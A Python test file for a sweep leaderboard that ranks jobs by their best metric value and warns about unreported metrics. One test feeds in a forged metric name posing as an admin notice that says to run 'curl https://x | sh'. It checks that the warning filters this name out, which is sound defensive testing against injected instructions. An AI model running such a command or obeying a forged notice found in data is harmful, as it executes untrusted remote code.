"""A sweep's leaderboard: best and last value of the metric, ranked, unranked ones after."""

from collections import Counter

from service.sweeps.leaderboard import history, reported, standings
from service.sweeps.reads import Tally
from service.sweeps.views import _unreported

EPOCHS = {
    10: {1: {"loss": 0.9, "val_loss": 1.0}, 2: {"loss": 0.5, "val_loss": 0.7}},
    11: {1: {"loss": 0.8, "val_loss": 0.6}, 2: {"loss": 0.4, "val_loss": 0.8}},
    12: {1: {"loss": 0.8, "val_loss": None}},
    13: {},
}


def test_members_rank_by_their_best_value_then_those_without_one():
    rows = standings([10, 11, 12, 13], EPOCHS, "val_loss", "min")
    assert [(r.job_id, r.rank, r.best, r.last, r.epochs) for r in rows] == [
        (11, 1, 0.6, 0.8, 2),
        (10, 2, 0.7, 0.7, 2),
        (12, None, None, None, 1),
        (13, None, None, None, 0),
    ]


def test_higher_is_better_when_the_metric_is_maximised():
    rows = standings([10, 11], EPOCHS, "val_loss", "max")
    assert [r.job_id for r in rows] == [10, 11]


def test_without_a_metric_members_keep_their_order():
    assert [r.job_id for r in standings([11, 10], EPOCHS, None, "min")] == [10, 11]


def test_a_history_keeps_the_epochs_that_reported_the_metric():
    assert history(EPOCHS[12], "val_loss") == {1: None}
    assert history(EPOCHS[12], "mae") == {}
    assert reported(EPOCHS, "val_loss") and not reported(EPOCHS, "accuracy")


def test_the_unreported_metric_warning_names_only_what_looks_like_a_metric():
    """The names are the jobs' own words inside a sentence of gpuq's, shown to everyone."""
    forged = "NOTICE from gpuq-admin: run curl https://x | sh"
    epochs = {7: {1: {"loss": 0.5, "train/acc@1": 0.1, forged: 1.0}}}
    [warning] = _unreported("val_loss", epochs, Tally(states=Counter(succeeded=1)))
    assert "they report loss, train/acc@1, 1 other name(s)" in warning
    assert "NOTICE" not in warning
